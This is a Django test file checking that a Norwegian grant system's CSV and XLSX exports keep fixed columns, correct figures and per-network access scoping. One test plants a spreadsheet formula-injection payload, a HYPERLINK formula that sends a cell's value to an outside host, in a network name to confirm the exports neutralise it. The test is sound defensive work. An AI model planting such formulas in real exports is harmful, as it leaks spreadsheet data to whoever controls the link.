"""Exports (CSV and XLSX through django-import-export): fixed columns, Norwegian letters intact,
the same numbers as the stored rows, and a network user's export holds only their network."""

from __future__ import annotations

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from allocation.selectors import frozen_run
from grants.models import Decision
from tests.factories import UserFactory
from workflow import rules

from .conftest import SORVEST, case_of

ALLOCATION_COLUMNS = [
    "Tilskuddsår",
    "Nettverk",
    "Elevtall",
    "Barnetall",
    "Grunntilskudd (kr)",
    "Andel etter elev- og barnetall (kr)",
    "Ramme (kr)",
]
CASE_COLUMNS = [
    "Tilskuddsår",
    "Nettverk",
    "Steg",
    "Ramme (kr)",
    "Innstilt (kr)",
    "Innstilt, herav UH (kr)",
    "Innvilget (kr)",
    "Innvilget, herav UH (kr)",
    "Vedtaksdato",
]
REPORT_COLUMNS = [
    "Tilskuddsår",
    "Nettverk",
    "Status",
    "Innvilget (kr)",
    "Brukt (kr)",
    "Tilbakebetales (kr)",
    "Frist",
    "Sendt",
    "Innen fristen",
    "Godkjent",
]


def export_csv(client, kind: str) -> list[dict[str, str]]:
    response = client.get(reverse("reporting:export", args=[2027, kind, "csv"]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets read UTF-8
    assert f"kompetanseloftet-2027-{kind}.csv" in response["Content-Disposition"]
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def export_xlsx(client, kind: str) -> list[tuple]:
    response = client.get(reverse("reporting:export", args=[2027, kind, "xlsx"]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    return list(sheet.iter_rows(values_only=True))


def header(client, kind: str) -> list[str]:
    response = client.get(reverse("reporting:export", args=[2027, kind, "csv"]))
    return next(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_column_sets_are_fixed(decided_year, login):
    client = login("statsforvalter")
    assert header(client, "fordeling") == ALLOCATION_COLUMNS
    assert header(client, "saker") == CASE_COLUMNS
    assert header(client, "rapporter") == REPORT_COLUMNS
    assert list(export_xlsx(client, "saker")[0]) == CASE_COLUMNS


def test_allocation_export_is_the_frozen_run_with_norwegian_letters_intact(frozen_year, login):
    client = login("forum")
    run = frozen_run(2027)
    expected = [
        (line.network_name, line.pupils, line.children, line.base, line.pro_rata, line.frame)
        for line in run.lines.all()
    ]
    rows = export_csv(client, "fordeling")
    assert [
        (
            r["Nettverk"],
            int(r["Elevtall"]),
            int(r["Barnetall"]),
            int(r["Grunntilskudd (kr)"]),
            int(r["Andel etter elev- og barnetall (kr)"]),
            int(r["Ramme (kr)"]),
        )
        for r in rows
    ] == expected
    names = {r["Nettverk"] for r in rows}
    assert {"Trøndelag sørvest", "Værnesregionen", "Gauldal og Trøndelag sør"} <= names
    sheet = export_xlsx(client, "fordeling")
    assert [row[1:] for row in sheet[1:]] == expected
    assert all(row[0] == 2027 for row in sheet[1:])


def test_case_export_has_state_and_amounts(decided_year, login):
    rows = {r["Nettverk"]: r for r in export_csv(login("sekretariat"), "saker")}
    assert len(rows) == 12  # 11 networks and the joint measures
    case = case_of(decided_year, SORVEST)
    decision = Decision.objects.get(network=case.network, status=Decision.Status.DECIDED)
    row = rows[SORVEST]
    assert row["Steg"] == "Vedtak"
    assert int(row["Ramme (kr)"]) == rules.case_frame(case)
    assert int(row["Innstilt (kr)"]) == decision.recommended_amount
    assert int(row["Innvilget (kr)"]) == decision.amount
    assert int(row["Innvilget, herav UH (kr)"]) == decision.uh_amount
    assert row["Vedtaksdato"] == "2027-03-01"


def test_case_export_before_the_vedtak_leaves_amounts_empty(recommended_year, login):
    rows = {r["Nettverk"]: r for r in export_csv(login("sekretariat"), "saker")}
    assert rows["Fosen"]["Steg"] == "Vedtak"
    assert rows["Fosen"]["Innvilget (kr)"] == ""
    assert rows["Fosen"]["Vedtaksdato"] == ""


def test_report_export_has_money_used_and_to_be_returned(reported_year, login):
    rows = {r["Nettverk"]: r for r in export_csv(login("statsforvalter"), "rapporter")}
    assert len(rows) == 12  # 11 networks and the joint measures
    sorvest = Decision.objects.get(network__name=SORVEST, status=Decision.Status.DECIDED)
    assert rows[SORVEST]["Status"] == "Godkjent"
    assert int(rows[SORVEST]["Innvilget (kr)"]) == sorvest.amount
    assert int(rows[SORVEST]["Brukt (kr)"]) == sorvest.amount - 25_000
    assert int(rows[SORVEST]["Tilbakebetales (kr)"]) == 25_000
    assert rows[SORVEST]["Sendt"] == "2027-06-01"
    assert rows[SORVEST]["Innen fristen"] == "ja"
    assert rows[SORVEST]["Frist"] == "2027-06-30"
    assert rows["Fosen"]["Innen fristen"] == "nei"
    assert rows["Fosen"]["Tilbakebetales (kr)"] == "0"
    assert rows["Værnesregionen"]["Status"] == "Utkast"
    assert rows["Værnesregionen"]["Sendt"] == ""
    # A draft's figures are not reported yet.
    assert rows["Værnesregionen"]["Brukt (kr)"] == ""
    assert rows["Værnesregionen"]["Tilbakebetales (kr)"] == ""


NTNU_NETWORKS = {
    "Trondheim",
    "Trøndelag fylkeskommune",
    SORVEST,
    "Fosen",
    "Gauldal og Trøndelag sør",
    "Værnesregionen",
}
NORD_NETWORKS = {"Innherred", "Inn-Trøndelag", "Midtre Namdal", "Ytre Namdal", "Indre Namdal"}


def test_a_network_users_export_holds_only_their_networks(reported_year, client, users):
    scopes = {
        "koordinator": {SORVEST},
        "eier": {SORVEST},
        "uh": NTNU_NETWORKS,
        "nord": NORD_NETWORKS,
    }
    for username, scope in scopes.items():
        client.force_login(users[username])
        for kind in ("fordeling", "saker", "rapporter"):
            # NTNU runs the joint measures: their case and report, but no line of the allocation.
            joint = {"Fellestiltak"} if username == "uh" and kind != "fordeling" else set()
            expected = scope | joint
            assert {r["Nettverk"] for r in export_csv(client, kind)} == expected, (username, kind)
            assert {row[1] for row in export_xlsx(client, kind)[1:]} == expected, (username, kind)


def test_someone_without_a_role_gets_no_export(decided_year, client):
    client.force_login(UserFactory())
    response = client.get(reverse("reporting:export", args=[2027, "saker", "csv"]))
    assert response.status_code == 403


def test_unknown_export_or_format_is_not_found(decided_year, login):
    client = login("statsforvalter")
    assert (
        client.get(reverse("reporting:export", args=[2027, "hemmelig", "csv"])).status_code == 404
    )
    assert client.get(reverse("reporting:export", args=[2027, "saker", "pdf"])).status_code == 404
    assert client.get(reverse("reporting:export", args=[2031, "saker", "csv"])).status_code == 404


def test_admin_exports_the_same_columns(reported_year, login):
    client = login("admin")
    for model, columns in (
        ("allocationexport", ALLOCATION_COLUMNS),
        ("caseexport", CASE_COLUMNS),
        ("reportexport", REPORT_COLUMNS),
    ):
        url = reverse(f"admin:reporting_{model}_export")
        assert client.get(reverse(f"admin:reporting_{model}_changelist")).status_code == 200
        page = client.get(url)
        assert page.status_code == 200
        fields = [name for name in page.context["form"].fields if "resource_" in name]
        response = client.post(
            url, {"format": "0", "resource": "0", **{name: "on" for name in fields}}
        )
        assert response.status_code == 200, model
        assert response.content.startswith(b"\xef\xbb\xbf"), model
        text = response.content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text), delimiter=";"))
        assert rows[0] == columns, model
        assert any(SORVEST in row for row in rows[1:]), model
        # A header and 11 networks; the cases and reports have the joint measures' too.
        assert len(rows) == (12 if model == "allocationexport" else 13), model


def test_admin_export_pages_change_nothing(decided_year, login):
    client = login("admin")
    for model in ("allocationexport", "caseexport", "reportexport"):
        assert client.get(reverse(f"admin:reporting_{model}_add")).status_code == 403


# --- how the files are written (config.exports) ---------------------------------------------

FORMULA = '=HYPERLINK("http://example.org/?x="&A1;"Klikk")'


def _formula_network(case):
    from networks.models import Network

    Network.objects.filter(pk=case.network_id).update(name=FORMULA)


def test_csv_is_semicolon_separated_utf8_with_bom_and_commas_on_request(decided_year, login):
    client = login("statsforvalter")
    url = reverse("reporting:export", args=[2027, "saker", "csv"])
    body = client.get(url).content
    assert body.startswith(b"\xef\xbb\xbf")
    first = body.decode("utf-8-sig").splitlines()[0]
    assert first == ";".join(CASE_COLUMNS)
    with_commas = client.get(url, {"skilletegn": "komma"}).content.decode("utf-8-sig")
    assert next(csv.reader(io.StringIO(with_commas))) == CASE_COLUMNS
    assert "Trøndelag sørvest" in with_commas


def test_a_formula_in_a_name_is_neutralised_in_csv_and_xlsx(decided_year, login):
    _formula_network(case_of(decided_year, SORVEST))
    client = login("statsforvalter")
    names = {r["Nettverk"] for r in export_csv(client, "saker")}
    assert "'" + FORMULA in names and FORMULA not in names
    response = client.get(reverse("reporting:export", args=[2027, "saker", "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    formula_cells = [c for c in cells if "HYPERLINK" in str(c.value)]
    assert len(formula_cells) == 1
    assert formula_cells[0].value == "'" + FORMULA
    assert formula_cells[0].data_type == "s"  # text, not a formula


def test_a_formula_is_neutralised_in_the_admin_export_too(decided_year, login):
    _formula_network(case_of(decided_year, SORVEST))
    client = login("admin")
    url = reverse("admin:reporting_caseexport_export")
    fields = [n for n in client.get(url).context["form"].fields if "resource_" in n]
    for fmt in ("0", "1"):
        response = client.post(url, {"format": fmt, "resource": "0", **{n: "on" for n in fields}})
        assert response.status_code == 200
        if fmt == "0":
            rows = list(
                csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
            )
            assert [row[1] for row in rows if "HYPERLINK" in row[1]] == ["'" + FORMULA]
        else:
            sheet = load_workbook(io.BytesIO(response.content)).active
            cell = next(r[1] for r in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(r[1].value))
            assert cell.value == "'" + FORMULA and cell.data_type == "s"


def test_xlsx_has_real_dates_and_number_formats(reported_year, login):
    import datetime as dt

    sheet = load_workbook(
        io.BytesIO(
            login("statsforvalter")
            .get(reverse("reporting:export", args=[2027, "rapporter", "xlsx"]))
            .content
        )
    ).active
    header_row = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == SORVEST)
    deadline = row[header_row.index("Frist")]
    sent = row[header_row.index("Sendt")]
    assert deadline.is_date and deadline.value.date() == dt.date(2027, 6, 30)
    assert sent.is_date and sent.value.date() == dt.date(2027, 6, 1)
    granted = row[header_row.index("Innvilget (kr)")]
    assert isinstance(granted.value, int) and granted.number_format == "#,##0"


def test_a_negative_number_written_as_text_is_left_alone():
    from config.exports import neutralise

    assert neutralise("-1200") == "-1200"
    assert neutralise("-1+2") == "'-1+2"
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(start + "SUM(A1)") == "'" + start + "SUM(A1)"
    assert neutralise("Trøndelag") == "Trøndelag"
